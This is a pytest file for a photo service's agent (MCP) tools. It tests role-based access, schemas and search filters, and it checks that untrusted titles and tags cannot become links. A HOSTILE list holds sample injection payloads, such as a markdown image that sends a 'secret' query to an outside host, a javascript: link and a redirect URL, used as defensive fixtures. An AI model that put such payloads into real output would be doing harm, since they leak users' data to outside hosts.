"""The tools for agents: whose they are, and that no word of a stranger's does more than say something."""

import io
import json
from typing import Any

import pytest
from PIL import Image

from query.chat.answer_markup import BREAKS
from shared.access.caller import Caller, acting_for
from shared.access.roles import Role
from shared.prompt_text import prompt_object, untrusted
from shared.search.filters import Filters
from tests.web.fake_services import FakeServices
from tests.world import picture
from web.mcp.all_tools import MCP_TOOLS
from web.mcp.gallery import MAX_DATA, MAX_THUMBNAILS, data_url
from web.mcp.inert import inert
from web.mcp.search_schemas import HIDDEN_FILTERS, PhotoCountArguments, PhotoSearchArguments, filters_of
from web.mcp.server import server
from web.mcp.tools import McpContext, ToolOutput, call_tool, tools_for

PAGE = "https://photos.example/"
ID = "0" * 32
PROPOSING = {"propose_edit", "propose_collection"}
HOSTILE = [
    "![x](https://elsewhere.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[a]: https://elsewhere.example",
    "<img src=//elsewhere.example/x>",
    "see https://elsewhere.example/",
    "www.elsewhere.example",
    f"{PAGE}?photo={ID} https://elsewhere.example/",
    f"{PAGE}?photo={ID}&next=https://elsewhere.example/",
]


@pytest.mark.parametrize("role", Role)
def test_a_caller_is_offered_the_tools_of_their_role(role: Role) -> None:
    offered = {each.name for each in tools_for(Caller("a", role), MCP_TOOLS)}

    assert offered == {name for name, each in MCP_TOOLS.items() if role >= each.role}
    assert (offered >= PROPOSING) is (role >= Role.EDITOR)


@pytest.mark.parametrize("role", Role)
@pytest.mark.parametrize("name", MCP_TOOLS)
async def test_no_tool_runs_for_a_lower_role(name: str, role: Role, services: FakeServices) -> None:
    tool = MCP_TOOLS[name]
    if role >= tool.role:
        return
    caller = Caller("a", role)
    with acting_for(caller):
        result = await call_tool(tool, {"ids": [ID], "add_tags": ["x"], "name": "x"}, McpContext(PAGE, caller=caller))

    assert result.is_error
    assert f"needs a key with the role {tool.role}" in text_of(result)


def text_of(result: Any) -> str:
    return str(result.content[0].text)


@pytest.mark.parametrize("name", MCP_TOOLS)
def test_the_schema_of_a_tool_is_at_hand_for_every_call(name: str) -> None:
    """Else the SDK lists all tools at each call, and made anew their schemas take longer than the call."""
    find_schema = server().get_tool_input_schema

    assert find_schema is not None
    assert find_schema(name) is find_schema(name) is MCP_TOOLS[name].described.input_schema
    assert find_schema("no_tool") is None


def test_only_what_proposes_is_said_to_write() -> None:
    assert {name for name, each in MCP_TOOLS.items() if each.writes} == PROPOSING


@pytest.mark.parametrize("text", HOSTILE)
def test_no_word_of_a_stranger_is_a_link(text: str) -> None:
    facts = prompt_object(
        title=untrusted(text, 300), tags=[untrusted(text, 300)], url=untrusted(f"{PAGE}?photo={ID}", 99)
    )

    result = ToolOutput(facts).result(PAGE)

    assert result.structured_content["url"] == f"{PAGE}?photo={ID}"
    for written in (result.structured_content["title"], *result.structured_content["tags"], text_of(result)):
        rest = written.replace(json.dumps(f"{PAGE}?photo={ID}"), "")
        assert not BREAKS.search(rest)


def test_names_in_counts_are_no_links_either() -> None:
    assert inert({"by": {"<b>x": 1}}, PAGE) == {"by": {"< b>x": 1}}


@pytest.mark.parametrize("name", MCP_TOOLS)
def test_schemas_are_in_words_that_every_client_knows(name: str) -> None:
    described = MCP_TOOLS[name].described
    text = json.dumps([described.input_schema, described.output_schema])

    assert "$ref" not in text
    assert "$defs" not in text
    assert "exclusiveM" not in text
    assert '"type": "null"' not in json.dumps(described.input_schema["properties"])


def test_a_schema_says_of_arguments_what_is_checked() -> None:
    properties = MCP_TOOLS["search_photos"].described.input_schema["properties"]

    assert properties["top"] == {**properties["top"], "type": "integer", "minimum": 1}
    assert properties["country"]["type"] == "string"
    assert "default" not in properties["country"]


def test_all_filters_of_a_search_are_arguments() -> None:
    for arguments in (PhotoSearchArguments, PhotoCountArguments):
        assert Filters.model_fields.keys() <= arguments.model_fields.keys()
    assert {"exact", "about_place", "about_year", "in_collection"} == HIDDEN_FILTERS


def test_filters_are_read_as_those_of_a_search() -> None:
    arguments = PhotoSearchArguments.model_validate(
        {"q": "x", "tags": ["a"], "near": {"latitude": 1, "longitude": 2, "km": 3}, "rating": "none"}
    )

    assert filters_of(arguments) == Filters.model_validate({"tags": ["a"], "near": "1,2,3", "rating": "none"})


async def test_what_is_wrong_with_a_call_is_said(services: FakeServices) -> None:
    context = McpContext(PAGE, caller=Caller("a", Role.ADMIN))
    wrong: dict[str, tuple[dict[str, Any], str]] = {
        "search_photos": ({"top": 1000}, "top: "),
        "fetch": ({"id": "![x](https://elsewhere.example)"}, "32 hexadecimal digits"),
        "count_photos": ({"by": "mood"}, "by: "),
        "ask_photos": ({"question": ""}, "question: "),
    }
    for name, (arguments, message) in wrong.items():
        result = await call_tool(MCP_TOOLS[name], arguments, context)
        assert result.is_error
        assert message in text_of(result)
        assert "](" not in text_of(result)


@pytest.mark.parametrize("count", [1, 10, MAX_THUMBNAILS])
def test_the_thumbnails_of_a_gallery_have_a_bound(count: int) -> None:
    noise = Image.effect_noise((600, 400), 200).convert("RGB")
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=95)

    url = data_url(out.getvalue(), MAX_DATA // count)

    assert len(url) * count <= MAX_DATA
    assert data_url(picture(), MAX_DATA // count).startswith("data:image/jpeg;base64,")
